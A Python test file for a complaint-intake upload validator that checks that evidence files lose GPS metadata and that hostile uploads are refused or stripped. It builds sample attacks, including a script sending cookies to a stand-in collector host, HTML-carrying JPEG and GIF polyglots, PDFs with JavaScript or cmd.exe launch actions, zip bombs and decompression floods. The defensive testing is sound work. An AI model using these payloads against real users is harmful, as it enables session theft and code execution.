"""Evidence is judged by its bytes, stripped of metadata, and never half-stored."""

import io
import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
import pytest
from flask_babel import force_locale
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from complaints.errors import UploadRejected
from complaints.intake import evidence
from complaints.intake.evidence import (
    ALLOWED_TYPES,
    STORED_MIME,
    UploadedFile,
    UploadLimits,
    check_file,
    check_files,
)
from tests import media

LIMITS = UploadLimits(max_files=3, max_file_bytes=2 * 1024 * 1024, max_total_bytes=3 * 1024 * 1024)


def test_photos_lose_their_gps_and_camera_tags() -> None:
    original = media.jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get(0x8825)
    checked = check_file(UploadedFile("photo.jpg", original), LIMITS)
    cleaned = Image.open(io.BytesIO(checked.data))
    assert checked.mime_type == "image/jpeg"
    assert not cleaned.getexif()
    assert b"FictionalPhoneMaker" not in checked.data


@pytest.mark.parametrize(
    ("data", "kind"),
    [(media.amr(), "audio"), (media.m4a(), "audio"), (media.pdf(), "pdf"), (media.png(), "image")],
)
def test_call_recordings_pdfs_and_screenshots_are_accepted(data: bytes, kind: str) -> None:
    assert check_file(UploadedFile("file.bin", data), LIMITS).kind == kind


def test_html_named_like_an_image_is_refused_whatever_its_name() -> None:
    with pytest.raises(UploadRejected, match=r"photo\.jpg"):
        check_file(UploadedFile("photo.jpg", media.html_as_jpg()), LIMITS)


def test_a_truncated_image_is_refused() -> None:
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("cut.png", media.truncated_png()), LIMITS)


def test_a_pdf_without_its_end_is_refused() -> None:
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("letter.pdf", media.pdf()[:-8]), LIMITS)


def test_an_svg_is_refused() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("image.svg", svg), LIMITS)


def test_a_pixel_flood_image_is_refused_before_decoding() -> None:
    out = io.BytesIO()
    Image.new("1", (12000, 12000)).save(out, format="PNG")
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("flood.png", out.getvalue()), LIMITS)


def test_limits_on_count_and_size_are_enforced() -> None:
    with pytest.raises(UploadRejected):
        check_files([UploadedFile(f"{i}.png", media.png()) for i in range(4)], LIMITS)
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("big.pdf", b"%PDF-" + bytes(3 * 1024 * 1024)), LIMITS)
    with pytest.raises(UploadRejected):
        check_file(UploadedFile("empty.png", b""), LIMITS)


# --- Hostile files: each refused with a message that names the file and says why, or made harmless. ---


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    """Messages in English, so a test can say which one it expects (one test checks the Chinese)."""
    with force_locale("en"):
        yield


def test_a_refusal_speaks_the_consumers_language() -> None:
    with force_locale("zh_Hans"), pytest.raises(UploadRejected, match=r"photo\.jpg：不支持这种文件类型"):
        check_file(UploadedFile("photo.jpg", b"<html>" + SCRIPT), LIMITS)


SCRIPT = b"<script>fetch('//collector-tracker.example.test/'+document.cookie)</script>"


def jpeg_polyglot() -> bytes:
    """A valid JPEG carrying HTML in a comment segment and again after its end-of-image marker."""
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "green").save(out, format="JPEG")
    data = out.getvalue()
    comment = b"<html><body>" + SCRIPT + b"</body></html>"
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return data[:2] + segment + data[2:] + b"<!doctype html>" + SCRIPT


def gif_polyglot() -> bytes:
    """A valid GIF with a script in a comment extension and more after its trailer."""
    out = io.BytesIO()
    Image.new("P", (16, 16), 1).save(out, format="GIF", comment=SCRIPT)
    return out.getvalue() + SCRIPT


def test_an_image_polyglot_is_stored_as_pixels_only_without_its_payload() -> None:
    for name, data in (("photo.jpg", jpeg_polyglot()), ("sticker.gif", gif_polyglot())):
        assert SCRIPT in data
        checked = check_file(UploadedFile(name, data), LIMITS)
        assert SCRIPT not in checked.data and b"<script" not in checked.data and b"<html" not in checked.data
        with Image.open(io.BytesIO(checked.data)) as image:
            image.load()
            assert image.size in ((32, 32), (16, 16))
        if checked.mime_type == "image/jpeg":
            assert checked.data.endswith(b"\xff\xd9"), "nothing follows the end-of-image marker"
        else:
            assert checked.mime_type == "image/png" and checked.data.endswith(b"IEND\xaeB`\x82")


def zip_archive(members: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
        archive.comment = comment
    return out.getvalue()


def test_a_pdf_with_a_zip_appended_or_hidden_at_its_end_is_refused() -> None:
    page = media.pdf()
    appended = page + zip_archive({"index.html": SCRIPT})
    end = page.rindex(b"%%EOF")
    # The archive sits before a final %%EOF, which its comment swallows: both a PDF and a ZIP reader open it.
    hidden = page[:end] + zip_archive({"index.html": SCRIPT}, comment=b"\n%%EOF\n")
    assert zipfile.is_zipfile(io.BytesIO(hidden)) and hidden.rstrip().endswith(b"%%EOF")
    for data in (appended, hidden):
        with pytest.raises(UploadRejected, match=r"letter\.pdf: something else is hidden in or after this PDF"):
            check_file(UploadedFile("letter.pdf", data), LIMITS)


def test_a_zip_bomb_named_like_a_pdf_is_refused_by_its_type() -> None:
    bomb = zip_archive({"a.txt": bytes(20 * 2**20)})
    assert len(bomb) < 100_000
    with pytest.raises(UploadRejected, match=r"contract\.pdf: this type of file is not accepted"):
        check_file(UploadedFile("contract.pdf", bomb), LIMITS)


def pdf_with(change: Callable[[pikepdf.Pdf], None], **save: Any) -> bytes:
    """A one-page PDF changed by `change`, saved with pikepdf's `save` options."""
    document = pikepdf.open(io.BytesIO(media.pdf()))
    change(document)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def open_action_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def link_that_launches(document: pikepdf.Pdf) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=launch)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(link)]))


def attached_html(document: pikepdf.Pdf) -> None:
    document.attachments["receipt.html"] = pikepdf.AttachedFileSpec(document, b"<html>" + SCRIPT + b"</html>")


def xfa_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp/>"))


def page_action(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
    document.pages[0].AA = pikepdf.Dictionary(O=script)


@pytest.mark.parametrize(
    ("change", "save"),
    [
        (open_action_script, {}),
        # In a compressed object stream the words "/JavaScript" appear nowhere in the raw bytes.
        (open_action_script, {"object_stream_mode": pikepdf.ObjectStreamMode.generate}),
        (link_that_launches, {}),
        (attached_html, {}),
        (xfa_form, {}),
        (page_action, {"object_stream_mode": pikepdf.ObjectStreamMode.generate}),
    ],
    ids=["open-action-script", "script-in-object-stream", "launch-link", "attached-html", "xfa-form", "page-action"],
)
def test_a_pdf_that_would_run_something_when_an_officer_opens_it_is_refused(
    change: Callable[[pikepdf.Pdf], None], save: dict[str, Any]
) -> None:
    data = pdf_with(change, **save)
    if save:
        assert b"/JavaScript" not in data
    with pytest.raises(UploadRejected, match=r"letter\.pdf: the PDF contains scripts, attached files or forms"):
        check_file(UploadedFile("letter.pdf", data), LIMITS)


def test_a_pdf_that_only_opens_at_its_first_page_is_accepted() -> None:
    def fit_first_page(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])

    checked = check_file(UploadedFile("letter.pdf", pdf_with(fit_first_page)), LIMITS)
    assert checked.kind == "pdf" and checked.mime_type == "application/pdf"


def test_a_password_protected_pdf_is_refused_with_a_clear_message() -> None:
    locked = pdf_with(lambda _document: None, encryption=pikepdf.Encryption(owner="owner-pw", user="user-pw"))
    with pytest.raises(UploadRejected, match=r"letter\.pdf: the PDF is protected by a password"):
        check_file(UploadedFile("letter.pdf", locked), LIMITS)


def test_a_pdf_whose_compressed_stream_unpacks_to_a_flood_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evidence, "MAX_PDF_INFLATED_BYTES", 8 * 2**20)
    deflater = zlib.compressobj(9)
    packed = b"".join(deflater.compress(bytes(2**20)) for _ in range(16)) + deflater.flush()

    def flood(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"")
        stream.write(packed, filter=pikepdf.Name.FlateDecode)
        document.pages[0].Contents = document.make_indirect(stream)

    data = pdf_with(flood)
    assert len(data) < 64 * 1024, "16 MB of page content in a few kilobytes"
    with pytest.raises(UploadRejected, match=r"letter\.pdf: the PDF unpacks to far more data"):
        check_file(UploadedFile("letter.pdf", data), LIMITS)


def test_a_pdf_cut_in_half_is_refused_as_incomplete() -> None:
    data = pdf_with(lambda document: document.add_blank_page())
    with pytest.raises(UploadRejected, match=r"letter\.pdf: the PDF is damaged or incomplete"):
        check_file(UploadedFile("letter.pdf", data[: len(data) // 2]), LIMITS)


def test_a_truncated_photo_is_refused_as_damaged() -> None:
    photo = media.jpeg_with_gps(size=(400, 300))
    with pytest.raises(UploadRejected, match=r"cut\.jpg: the image is damaged or incomplete"):
        check_file(UploadedFile("cut.jpg", photo[: len(photo) * 2 // 3]), LIMITS)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("image.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("photo.jpg", b"<html><head><title>x</title></head><body>" + SCRIPT + b"</body></html>"),
        ("photo.gif", b"GIF89a" + SCRIPT),
        ("page.png", b"\x89PNG\r\n\x1a\n" + b"<html>" + SCRIPT),
    ],
    ids=["svg-named-png", "html-named-jpg", "gif-header-then-html", "png-signature-then-html"],
)
def test_markup_under_an_image_name_is_refused(name: str, data: bytes) -> None:
    refused = re.escape(name) + r": (this type of file is not accepted|the image is damaged)"
    with pytest.raises(UploadRejected, match=refused):
        check_file(UploadedFile(name, data), LIMITS)


def test_a_pixel_flood_refusal_says_the_image_is_too_large() -> None:
    out = io.BytesIO()
    Image.new("1", (10000, 10000)).save(out, format="PNG")
    assert len(out.getvalue()) < 100_000
    with pytest.raises(UploadRejected, match=r"flood\.png: the image is too large to process"):
        check_file(UploadedFile("flood.png", out.getvalue()), LIMITS)


# --- Whatever bytes arrive under an allowed name: a clear refusal, or an allowed type that opens. ---

STORED_TYPES = {mime for mime, (_kind, target) in ALLOWED_TYPES.items() if target is None} | set(STORED_MIME.values())
ALLOWED_NAMES = ["photo.jpg", "screen.png", "s.webp", "s.gif", "letter.pdf", "call.amr", "call.m4a", "call.mp3"]


def real_files() -> list[bytes]:
    gif = io.BytesIO()
    Image.new("P", (20, 20), 3).save(gif, format="GIF")
    webp = io.BytesIO()
    Image.new("RGB", (20, 20), "white").save(webp, format="WEBP")
    mp3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + (b"\xff\xfb\x90\x64" + bytes(413)) * 4
    return [
        media.jpeg_with_gps(),
        media.png(),
        gif.getvalue(),
        webp.getvalue(),
        media.pdf(),
        media.amr(),
        media.m4a(),
        mp3,
    ]


REAL_FILES = real_files()


def assert_refused_or_allowed(name: str, data: bytes) -> None:
    try:
        checked = check_file(UploadedFile(name, data), LIMITS)
    except UploadRejected as error:
        assert error.message.startswith((f"{name}:", f"{name}：")), error.message
        return
    assert checked.mime_type in STORED_TYPES, checked.mime_type
    if checked.kind == "image":
        with Image.open(io.BytesIO(checked.data)) as image:
            image.load()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.sampled_from(ALLOWED_NAMES), data=st.binary(min_size=1, max_size=4096))
def test_random_bytes_under_an_allowed_name_are_refused_or_stored_as_an_allowed_type(name: str, data: bytes) -> None:
    assert_refused_or_allowed(name, data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(ALLOWED_NAMES),
    original=st.sampled_from(REAL_FILES),
    cut=st.floats(min_value=0.0, max_value=1.0),
    flips=st.lists(st.tuples(st.floats(min_value=0.0, max_value=1.0), st.integers(0, 255)), max_size=6),
)
def test_cut_or_damaged_real_files_are_refused_or_stored_as_an_allowed_type(
    name: str, original: bytes, cut: float, flips: list[tuple[float, int]]
) -> None:
    data = bytearray(original[: max(1, int(len(original) * cut))])
    for where, value in flips:
        data[min(len(data) - 1, int(len(data) * where))] = value
    assert_refused_or_allowed(name, bytes(data))


def test_a_pdf_with_a_corrupt_compressed_stream_is_judged_by_size_not_refused() -> None:
    def broken_stream(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"")
        stream.write(b"\x78\x9c" + b"\xff" * 20, filter=pikepdf.Name.FlateDecode)  # an invalid deflate block
        document.pages[0].Contents = document.make_indirect(stream)

    assert check_file(UploadedFile("scan.pdf", pdf_with(broken_stream)), LIMITS).kind == "pdf"
